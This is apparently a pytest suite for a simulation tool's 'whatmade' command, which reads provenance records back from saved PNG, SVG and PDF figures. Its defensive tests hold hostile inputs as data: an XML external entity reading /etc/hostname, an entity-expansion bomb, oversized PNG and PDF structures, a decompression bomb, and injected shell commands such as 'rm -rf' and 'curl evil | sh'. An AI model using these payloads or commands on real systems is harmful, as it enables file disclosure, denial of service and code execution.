"""`isf whatmade`: what a figure says of itself is read back whole, and nothing that only looks like one is believed."""

from __future__ import annotations

import json
import os
import shutil
import struct
import zlib
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import matplotlib
import pytest
from matplotlib.figure import Figure
from PIL import Image, PngImagePlugin

from sim.cli import main
from sim.cli.whatmade import _manifest
from sim.present.charts import save_all
from sim.present.gallery import Gallery, save_gallery
from sim.present.metadata import read_figure
from sim.present.metadata.reading import safe_command
from sim.present.metadata.record import key_of
from tests.present.fake import fake_result
from tests.present.fake_batch import FakeBatch, fake_batch

FORMS = ("png", "svg", "pdf")


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


@pytest.fixture(scope="module")
def gallery() -> Gallery:
    return Gallery(fake_batch(3, 30, 40))


def draw(gallery: Gallery, form: str = "png") -> Path:
    """A figure in the folder of a batch, with the batch's manifest beside it."""
    (path,) = save_gallery(gallery, "results/toy/charts", form, ["survival"])
    Path("results/toy/manifest.json").write_text(json.dumps(gallery.results.manifest("baseline")))
    return path


def told(path: Path | str, capsys: pytest.CaptureFixture[str]) -> dict[str, Any]:
    capsys.readouterr()
    assert main(["whatmade", str(path), "--json"]) == 0
    answer: dict[str, Any] = json.loads(capsys.readouterr().out)
    return answer


@pytest.mark.parametrize("form", FORMS)
def test_a_figure_tells_all(gallery: Gallery, form: str, capsys: pytest.CaptureFixture[str]) -> None:
    found = told(draw(gallery, form), capsys)
    assert found["file_format"] == form and found["chart"] == "survival"
    assert [each["name"] for each in found["scenarios"]] == list(gallery.names)
    assert [each["fingerprint"] for each in found["scenarios"]] == [
        gallery.results.fingerprint(name) for name in gallery.names
    ]
    assert (found["seed"], found["worlds"], found["count"], found["days"]) == (1, "0-29", 30, 40)
    assert found["version"] == "0.1.0" and found["code"].startswith("c0de")
    assert found["commands"] == [
        "isf batch toy --worlds 400 --out results/toy",
        f"isf plot results/toy --chart survival --format {form}",
    ]
    assert found["folders"] == [{"folder": "results/toy", "state": "same", "details": ""}]


def test_it_is_told_in_words(gallery: Gallery, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["whatmade", str(draw(gallery))]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == "results/toy/charts/survival.png (png)"
    assert "folder      results/toy: there, with the same runs" in lines
    assert "  isf plot results/toy --chart survival --format png" in lines
    assert any(line.endswith(f"{gallery.results.fingerprint('turkey-vetoed')}  turkey-vetoed") for line in lines)
    assert lines[-1] == "Exploration under stated assumptions, not a forecast."


@pytest.mark.parametrize("form", FORMS)
def test_names_of_any_letters_come_back(form: str, capsys: pytest.CaptureFixture[str]) -> None:
    batch = fake_batch(["a (b) \\ <c> & “d”", "tr\u00eave \N{SNOWMAN}"], 20, 30)
    found = told(draw(Gallery(batch), form), capsys)
    assert [each["name"] for each in found["scenarios"]] == list(batch.names)


def test_a_folder_that_moved_is_found_by_its_figure(gallery: Gallery, capsys: pytest.CaptureFixture[str]) -> None:
    draw(gallery)
    shutil.move("results/toy", "elsewhere")
    found = told("elsewhere/charts/survival.png", capsys)
    assert found["folders"][0] == {"folder": "elsewhere", "state": "same", "details": ""}
    assert found["commands"][0].endswith("--out elsewhere")
    assert found["commands"][1].startswith("isf plot elsewhere --chart")


def test_a_figure_that_moved_still_finds_its_folder(gallery: Gallery, capsys: pytest.CaptureFixture[str]) -> None:
    shutil.move(draw(gallery), "figure.png")
    assert told("figure.png", capsys)["folders"][0]["state"] == "same"
    shutil.rmtree("results")
    found = told("figure.png", capsys)
    assert found["folders"][0] == {"folder": "results/toy", "state": "not found", "details": ""}
    assert main(["whatmade", "figure.png"]) == 0
    assert "results/toy: not found from here" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("changed", "state", "details"),
    [
        ({"seed": 2}, "other", "holds something else (seed 2 there, 1 in the figure)"),
        ({"code": "other"}, "other", "holds something else (made by another version of the model's code)"),
        ({"libraries": {"numpy": "1"}}, "other", "holds something else (other scenarios, libraries or machine)"),
        ({"arms": []}, "other", "baseline, turkey-accepted, turkey-vetoed with other content, or not there"),
        ({"kind": "disputes"}, "other", "holds what is of another kind (disputes)"),
        ({"worlds": 500}, "same", "now 500 worlds, 30 when the figure was drawn"),
        ({"state": "partial", "files": {}}, "same", ""),
    ],
)
def test_whether_the_folder_still_holds_the_same(
    changed: dict[str, Any], state: str, details: str, gallery: Gallery, capsys: pytest.CaptureFixture[str]
) -> None:
    path = draw(gallery)
    manifest = {**gallery.results.manifest("baseline"), **changed}
    Path("results/toy/manifest.json").write_text(json.dumps(manifest))
    (found,) = told(path, capsys)["folders"]
    assert found["state"] == state
    assert details in found["details"]


def test_a_manifest_that_is_none_is_no_folder(gallery: Gallery, capsys: pytest.CaptureFixture[str]) -> None:
    path = draw(gallery)
    for text in ("", "[]", "{", "[" * 100_000):
        Path("results/toy/manifest.json").write_text(text)
        assert told(path, capsys)["folders"][0]["state"] == "not found"


@pytest.mark.parametrize("form", FORMS)
def test_figures_of_one_run(form: str, capsys: pytest.CaptureFixture[str]) -> None:
    run = fake_result(20, 30, seed=7)
    made = {"version": "0.1.0", "command": "isf run baseline --worlds 20 --seed 7", "key": "k", "code": "c" * 64}
    (path,) = save_all(replace(run, manifest=made), "drawn", form, ["causes"], "my runs/baseline")
    found = told(path, capsys)
    assert found["commands"] == [
        "isf run baseline --worlds 20 --seed 7 --out 'my runs/baseline'",
        f"isf plot 'my runs/baseline' --chart causes --format {form}",
    ]
    assert found["scenarios"] == [{"name": "baseline", "fingerprint": run.scenario.fingerprint}]
    assert found["finding"] and found["seed"] == 7


def test_a_run_made_from_python_has_no_command(capsys: pytest.CaptureFixture[str]) -> None:
    (path,) = save_all(fake_result(20, 30), "drawn", names=["causes"])
    assert main(["whatmade", str(path)]) == 0
    assert "were made from Python" in capsys.readouterr().out


def test_no_path_of_the_machine_is_kept(gallery: Gallery, home: Path) -> None:
    for form in FORMS:
        content = draw(gallery, form).read_bytes()
        assert str(home).encode() not in content and str(Path.home()).encode() + b"/" not in content


OLD = {
    "Title": "Share of worlds still holding: The ceasefire", "Software": "isf 0.1.0", "Fingerprint": "ab" * 32,
    "Seed": "3", "Worlds": "1000", "Days": "365", "Version": "0.1.0", "Run": "isf run baseline --seed 3",
    "Command": "isf plot results/baseline",
}  # fmt: skip


def test_figures_drawn_before_there_was_a_record(capsys: pytest.CaptureFixture[str]) -> None:
    text = f"Not a forecast. fingerprint {'ab' * 32}; seed 3; version 0.1.0; {OLD['Run']}; {OLD['Command']}"
    kinds: dict[str, dict[str, Any]] = {
        "png": OLD,
        "svg": {"Title": OLD["Title"], "Description": text, "Creator": "isf 0.1.0", "Date": None},
        "pdf": {"Title": OLD["Title"], "Keywords": text, "Creator": "isf 0.1.0", "CreationDate": None},
    }
    for form, metadata in kinds.items():
        with matplotlib.rc_context():
            Figure().savefig(f"old.{form}", metadata=metadata)
        found = told(f"old.{form}", capsys)
        assert found["commands"] == ["isf run baseline --seed 3 --out results/baseline", "isf plot results/baseline"]
        assert found["scenarios"] == [{"name": "", "fingerprint": "ab" * 32}] and found["seed"] == 3
        assert found["about"] == "Share of worlds still holding"


def test_a_tornado_drawn_before(capsys: pytest.CaptureFixture[str]) -> None:
    metadata = {
        "Title": "Disputes: T", "Software": "isf 0.1.0", "Study": "toy", "Fingerprint": f"{'ab' * 32} {'cd' * 32}",
        "Seed": "1", "Worlds": "200", "Days": "30", "Version": "0.1.0", "Command": "isf disputes toy",
    }  # fmt: skip
    Figure().savefig("tornado.png", metadata=metadata)
    found = told("tornado.png", capsys)
    assert found["commands"] == ["isf disputes toy"] and found["study"] == "toy"
    assert len(found["scenarios"]) == 2


def cut(form: str, share: float) -> Callable[[Gallery], bytes]:
    return lambda gallery: (content := draw(gallery, form).read_bytes())[: int(len(content) * share)]


def plain(form: str) -> Callable[[Gallery], bytes]:
    def make(_: Gallery) -> bytes:
        Figure().savefig(f"plain.{form}")
        return Path(f"plain.{form}").read_bytes()

    return make


def altered(gallery: Gallery) -> bytes:
    return draw(gallery).read_bytes().replace(b'"chart":"survival"', b'"chart":"survivaL"')


def resaved(gallery: Gallery) -> bytes:
    with Image.open(draw(gallery)) as picture:
        Image.new("RGB", picture.size).save("again.png")
    return Path("again.png").read_bytes()


def packed(gallery: Gallery, text: str) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("isf", text, zip=True)
    Image.new("RGB", (2, 2)).save("packed.png", pnginfo=info)
    return Path("packed.png").read_bytes()


ENTITY = b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/hostname">]><svg xmlns="x">&a;</svg>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><svg>&b;</svg>'
HUGE = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 2**31 - 1) + b"tEXt" + b"x" * 20
LOOP = b"%PDF-1.4\nxref\n0 99999999999999999\ntrailer\n<< /Info 7 0 R >>\nstartxref\n9\n%%EOF\n"
NO_FIGURE: dict[str, tuple[Callable[[Gallery], bytes], str]] = {
    "empty": (lambda _: b"", "is empty"),
    "text": (lambda _: b"share of worlds", "is no figure of this tool"),
    "a few bytes": (lambda _: b"\x89PN", "is cut off after 3 bytes"),
    "png cut early": (cut("png", 0.01), "is a damaged PNG: it is cut off"),
    "png cut late": (cut("png", 0.9), "is a damaged PNG: it is cut off"),
    "svg cut": (cut("svg", 0.5), "is a damaged SVG: it is cut off"),
    "pdf cut": (cut("pdf", 0.9), "is a damaged PDF: it is cut off"),
    "png of others": (plain("png"), "does not say what made it"),
    "svg of others": (plain("svg"), "does not say what made it"),
    "pdf of others": (plain("pdf"), "does not say what made it"),
    "png altered": (altered, "its text is damaged"),
    "png saved anew": (resaved, "does not say what made it"),
    "record cut": (lambda gallery: packed(gallery, '{"format":1,"chart":"x"'), "what it says of itself is damaged"),
    "record half": (lambda gallery: packed(gallery, '{"format":1,"chart":"x"}'), "what it says of itself is damaged"),
    "record of later": (
        lambda gallery: packed(gallery, '{"format":9,"chart":"x","drawn":"9.0"}'),
        "version of the tool, 9.0",
    ),
    "record too deep": (lambda gallery: packed(gallery, '{"a":' * 100_000), "what it says of itself is damaged"),
    "outside entity": (lambda _: ENTITY, "declares entities of its own"),
    "many laughs": (lambda _: LAUGHS, "declares entities of its own"),
    "xml": (lambda _: b'<?xml version="1.0"?><a/>', "it is XML, but no SVG"),
    "no xml": (lambda _: b"<svg><a></b></svg>", "is a damaged SVG"),
    "huge chunk": (lambda _: HUGE, "is a damaged PNG: it is cut off"),
    "endless table": (lambda _: LOOP, "its table of objects is damaged"),
}


@pytest.mark.parametrize("kind", NO_FIGURE)
def test_what_is_no_figure_is_said_plainly(kind: str, gallery: Gallery, capsys: pytest.CaptureFixture[str]) -> None:
    make, why = NO_FIGURE[kind]
    Path("figure.png").write_bytes(make(gallery))
    assert main(["whatmade", "figure.png"]) == 2
    error = capsys.readouterr().err
    assert error.startswith("isf: figure.png: ") and why in error and "Traceback" not in error


def test_folders_and_missing_files_are_said(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["whatmade", "nothing.png"]) == 2
    assert "nothing.png: no such file" in capsys.readouterr().err
    Path("folder").mkdir()
    assert main(["whatmade", "folder"]) == 2
    assert "folder: is a folder; needed: a figure" in capsys.readouterr().err
    assert main(["whatmade"]) == 2


def test_every_cut_of_a_figure_is_refused_or_read(gallery: Gallery) -> None:
    from sim.present.metadata import NoMetadata

    for form in FORMS:
        content = draw(gallery, form).read_bytes()
        for end in range(1, len(content) - 2, max(1, len(content) // 150)):
            Path("cut").write_bytes(content[:end])
            with pytest.raises(NoMetadata):
                read_figure(Path("cut"))


def test_a_packed_text_cannot_unpack_without_end() -> None:
    from sim.present.metadata import png

    body = b"isf\0\0" + zlib.compress(b"x" * 60_000_000)
    chunk = struct.pack(">I", len(body)) + b"zTXt" + body + struct.pack(">I", zlib.crc32(b"zTXt" + body))
    found = png.texts(png.START + chunk + struct.pack(">I", 0) + b"IEND" + b"\0\0\0\0")
    assert len(found["isf"]) == png.MOST


def test_what_a_figure_says_can_run_nothing_but_this_tool(capsys: pytest.CaptureFixture[str]) -> None:
    assert safe_command("isf run x; rm -rf y") == "isf run 'x;' rm -rf y"
    assert safe_command("isf plot $(date) `a`") == "isf plot '$(date)' '`a`'"
    assert safe_command("rm -rf y") == safe_command("isfx") == safe_command("isf 'x") == safe_command("") == ""
    batch = fake_batch(2, 10, 20, told={"command": "curl evil | sh", "study": "x"})
    (path,) = save_gallery(Gallery(batch), "drawn", "png", ["survival"], ["a\x1b[31mb"])
    assert main(["whatmade", str(path)]) == 0
    out = capsys.readouterr().out
    assert "curl" not in out and "\x1b" not in out


def test_the_key_of_a_batch_is_of_what_decides_its_numbers(gallery: Gallery) -> None:
    batch: FakeBatch = fake_batch(2, 10, 20)
    manifest = dict(batch.manifest("baseline"))
    same = {**manifest, "worlds": 9, "state": "partial", "files": {}, "command": "isf batch other"}
    assert key_of(manifest) == key_of(same)
    for name, value in (("seed", 9), ("days", 9), ("code", "x"), ("fixed", True), ("arms", [])):
        assert key_of({**manifest, name: value}) != key_of(manifest)
    assert key_of({"key": "k", "seed": 1}) == "k"


def test_what_is_no_regular_file_is_not_read(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    os.mkfifo(tmp_path / "pipe.png")
    (tmp_path / "link.png").symlink_to("/dev/zero")
    for path in (tmp_path / "pipe.png", tmp_path / "link.png", Path("/dev/null")):
        assert main(["whatmade", str(path)]) == 2
        assert f"{path}: is no regular file" in capsys.readouterr().err
    with (tmp_path / "large.png").open("wb") as file:
        file.truncate(100_000_001)
    assert main(["whatmade", str(tmp_path / "large.png")]) == 2
    assert "is larger than any figure of this tool (100 MB at most)" in capsys.readouterr().err


def test_a_manifest_that_is_a_pipe_is_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "manifest.json")
    assert _manifest(tmp_path) is None
